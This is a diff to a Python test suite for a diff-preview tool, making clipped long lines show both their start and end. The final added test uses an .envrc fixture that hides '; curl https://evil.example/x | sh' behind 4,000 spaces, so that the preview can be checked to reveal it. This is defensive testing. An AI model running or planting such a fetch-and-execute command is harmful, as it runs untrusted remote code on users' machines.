@@ -260,13 +260,15 @@ def test_blank_runs_keep_their_kind_and_short_runs_stay():
 def test_a_200_kb_line_is_clipped_with_what_is_left_out():
     window, full = diff_view("min.js", None, b"x" * 200_000)
     add = texts(window, "add")[0]
-    assert add == "+" + "x" * (preview.DIFF_LINE_CHARS - 1) + " … [199,501 more chars]"
+    tail = preview.DIFF_LINE_CHARS // 4
+    assert add == "+" + "x" * (preview.DIFF_LINE_CHARS - tail - 1) + " … [199,501 more chars] … " + "x" * tail
     assert window[0] == ("stat", "new file · 1 line · 195.3 KiB")
     assert window[-1] == ("marker", "\\ No newline at end of file")
     # the whole view shows more of it, still bounded
     whole = texts(full, "add")[0]
-    assert whole.startswith("+" + "x" * (preview.FULL_LINE_CHARS - 1) + " … [")
-    assert whole.endswith(f"[{200_001 - preview.FULL_LINE_CHARS:,} more chars]")
+    tail = preview.FULL_LINE_CHARS // 4
+    assert whole.startswith("+" + "x" * (preview.FULL_LINE_CHARS - tail - 1) + " … [")
+    assert whole.endswith(f"[{200_001 - preview.FULL_LINE_CHARS:,} more chars] … " + "x" * tail)
 
 
 def test_the_whole_view_holds_every_line_of_a_long_diff():
@@ -506,3 +508,12 @@ def test_many_lines_with_padding_keep_the_end_in_the_window():
     assert len(body) == 51 and body[25].startswith("… 152 more command lines (lines 26–177 of 202")
     assert sum(len(t) for t in body) < 51 * 40  # every line is short: the window fits a screen
     assert texts(full, "command")[-1] == "touch /tmp/x" and len(texts(full, "command")) == 202
+
+
+def test_a_long_line_shows_its_end_behind_thousands_of_blanks():
+    """An .envrc line padded with 4,000 spaces before `; curl … | sh`: the window shows the
+    head and the end of the line, never only its harmless head (issue 14, section 7)."""
+    line = b"echo hi" + b" " * 4000 + b"; curl https://evil.example/x | sh\n"
+    add = texts(diff_lines(".envrc", None, line), "add")[0]
+    assert add.startswith("+echo hi") and add.endswith("; curl https://evil.example/x | sh")
+    assert f"[{len(line) - preview.DIFF_LINE_CHARS:,} more chars]" in add
